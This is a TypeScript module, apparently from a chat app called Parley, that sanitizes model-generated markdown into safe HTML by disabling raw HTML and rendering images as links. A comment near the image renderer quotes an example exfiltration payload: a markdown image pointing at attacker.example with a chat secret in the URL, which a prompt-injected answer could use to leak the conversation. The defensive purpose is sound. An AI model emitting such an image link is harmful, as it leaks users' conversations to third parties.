// Markdown -> sanitized HTML. Together with sanitize.ts this is the only place
// in Parley that turns untrusted text (model output) into HTML; everything it
// returns is safe to hand to {@html}. It is loaded on first need (see
// load.svelte.ts), so marked and DOMPurify stay off the startup path.
//
// Two independent layers keep model output from running:
//  1. marked is configured so raw HTML in the markdown never becomes markup:
//     the HTML tokenizers are switched off (raw tags stay paragraph text and
//     are escaped like any other text), unsafe link destinations are rendered
//     as plain text, and images become links.
//  2. Whatever marked emits then goes through DOMPurify (sanitize.ts) with an
//     allowlist of exactly the tags and attributes produced here.

import { Marked, type Links, type Token, type Tokens, type TokensList } from 'marked';
import { escapeHtml, safeUrl } from './escape';
import type { highlight as Highlight } from './highlight';
import { sanitizeHtml, type SafeHtml } from './sanitize';

/** What highlight.ts offers, once it has loaded. */
export type Highlighter = typeof Highlight;

/** The state of one synchronous render (marked's renderer hooks read it). */
const run = {
  highlighter: null as Highlighter | null,
  /** A code block named a language that had to be shown unhighlighted. */
  wantedHighlighter: false,
  // Images inside a link would otherwise become a link inside a link, which
  // the HTML parser splits apart.
  linkDepth: 0,
};

const marked = new Marked({
  gfm: true,
  breaks: false,
  // Returning undefined means "no match here", so `<img ...>`, `<script>`,
  // `<details ontoggle=...>` etc. are lexed as ordinary text and escaped by
  // the text renderer. The reader sees the literal markup, nothing runs, and
  // markdown around the tags keeps working.
  tokenizer: {
    html: () => undefined,
    tag: () => undefined,
  },
  renderer: {
    // Unreachable with the tokenizers above; kept so that an html token can
    // only ever come out as text.
    html({ text }) {
      return escapeHtml(text);
    },

    link({ href, title, tokens, text, autolink }) {
      run.linkDepth++;
      let inner: string;
      try {
        inner = autolink ? escapeHtml(text) : this.parser.parseInline(tokens);
      } finally {
        run.linkDepth--;
      }
      // Autolinks are literal per GFM: their character references are text.
      const url = safeUrl(href, { decode: !autolink });
      if (url === null || run.linkDepth > 0) return inner;
      const titleAttr = title ? ` title="${escapeHtml(title)}"` : '';
      return `<a href="${escapeHtml(url)}"${titleAttr}>${inner}</a>`;
    },

    // Images are rendered as links, never as <img>. An <img> loads as soon as
    // it is shown, so a prompt-injected answer like
    // `![](https://attacker.example/?q=<secret from the chat>)` would leak the
    // conversation to a third party without a click. A link only goes
    // anywhere if the user chooses to follow it.
    image({ href, title, text }) {
      const label = escapeHtml(text || href);
      const url = safeUrl(href);
      if (url === null || run.linkDepth > 0) return label;
      const titleAttr = title ? ` title="${escapeHtml(title)}"` : '';
      // Where the click would go, before it is made.
      const host = hostOf(url);
      const where = host ? ` <span class="md-host">(${escapeHtml(host)})</span>` : '';
      return `<a class="md-image" href="${escapeHtml(url)}"${titleAttr}>${label}${where}</a>`;
    },

    // GFM task list items. A disabled <input> would do, but keeping <input>
    // out of the allowlist entirely is simpler to reason about.
    checkbox({ checked }) {
      const label = checked ? 'Done' : 'Not done';
      return `<span class="md-task" role="img" aria-label="${label}">${checked ? '☑' : '☐'}</span> `;
    },

    // Same markup as marked's own table, inside a scroll container: a wide
    // table scrolls on its own instead of widening the chat, and the <table>
    // keeps its native display (and so its table semantics for screen readers).
    table(token) {
      const row = (cells: Tokens.TableCell[]) =>
        this.tablerow({ text: cells.map((cell) => this.tablecell(cell)).join('') });
      const head = row(token.header);
      const body = token.rows.map(row).join('');
      return (
        `<div class="md-table"><table>\n<thead>\n${head}</thead>\n` +
        `${body ? `<tbody>${body}</tbody>` : ''}</table></div>\n`
      );
    },

    code({ text, lang }) {
      // The info string may carry more than the language (```js {1,3}).
      const requested = (lang ?? '').trim().split(/\s/, 1)[0] ?? '';
      const name = requested
        .toLowerCase()
        .replace(/[^a-z0-9+#._-]/g, '')
        .slice(0, 32);
      // Until highlight.js has loaded, the same markup with plain escaped code.
      if (name !== '' && !run.highlighter) run.wantedHighlighter = true;
      const highlighted = name !== '' && run.highlighter ? run.highlighter(text, name) : null;
      // Its grammar is on its way: plain for now, coloured when it arrives.
      if (highlighted === undefined) run.wantedHighlighter = true;
      const body = highlighted ?? escapeHtml(text);
      const className = name ? `hljs language-${name}` : 'hljs';
      // The button is wired by event delegation in RenderedMarkdown.svelte.
      return (
        `<pre data-lang="${name}">` +
        `<button type="button" class="md-copy" aria-label="Copy code">Copy</button>` +
        `<code class="${className}">${body}\n</code></pre>\n`
      );
    },
  },
});

/**
 * Lexes Markdown into top-level tokens (GFM). `links` seeds the reference
 * definitions known from earlier text, so a piece of a document lexes as it
 * would inside the whole; the result's `links` holds those plus the piece's own.
 */
export function lex(markdown: string, links?: Links): TokensList {
  const lexer = new marked.Lexer(marked.defaults);
  if (links) lexer.tokens.links = Object.assign(Object.create(null) as Links, links);
  return lexer.lex(markdown);
}

/** Sanitized HTML of some tokens, and whether a code block among them wanted highlight.js. */
export interface Rendered {
  html: SafeHtml;
  wantedHighlighter: boolean;
}

/**
 * Renders tokens from lex() to sanitized HTML, highlighting code blocks with
 * `highlighter` when there is one (rendering is synchronous, hence `run`).
 */
export function renderTokens(tokens: Token[], highlighter: Highlighter | null): Rendered {
  run.highlighter = highlighter;
  run.wantedHighlighter = false;
  run.linkDepth = 0;
  try {
    const html = sanitizeHtml(marked.parser(tokens));
    return { html, wantedHighlighter: run.wantedHighlighter };
  } finally {
    run.highlighter = null;
  }
}

/** The host of an absolute http(s) URL; '' for anything else. */
function hostOf(url: string): string {
  try {
    const { protocol, host } = new URL(url);
    return protocol === 'https:' || protocol === 'http:' ? host : '';
  } catch {
    return '';
  }
}

/**
 * A short answer with every kind of block, for warmUp(): what models send, in pieces.
 */
const SAMPLE = [
  '## Heading with `code` and **bold**',
  'A paragraph with *emphasis*, a [link](https://example.com "title"), ~~struck~~ text and a very long line that keeps going.',
  '- item one with `inline`\n- item **two**\n  1. nested\n  2. ordered',
  '> A quote\n> over two lines',
  '| a | b |\n| - | :-: |\n| `x` | 1 |',
  '```ts\nexport function f(a: number): string {\n  return `${a}`;\n}\n```',
  '```python\ndef f(x):\n    return [i for i in x if i]\n```',
  'Setext\n---',
  '1. first\n2. second\n\n***',
];

/** How many pieces warmUp() takes, one at a time. */
export const WARM_PIECES = SAMPLE.length;

/**
 * Runs the renderer over piece `piece` of a sample and drops the result. New code
 * runs slowly the first times (the JavaScript engine interprets functions and
 * regular expressions before it compiles them): warmed while the page is idle, the
 * first answer that streams in is drawn by compiled code, not at a third of its
 * speed. A piece at a time: the whole sample, the first time, was one 60-80 ms task
 * on a small machine (highlight.js compiling its grammars, DOMPurify's first run).
 */
export function warmUp(highlighter: Highlighter | null, piece: number): void {
  renderTokens(lex(SAMPLE[piece % SAMPLE.length]!), highlighter);
}
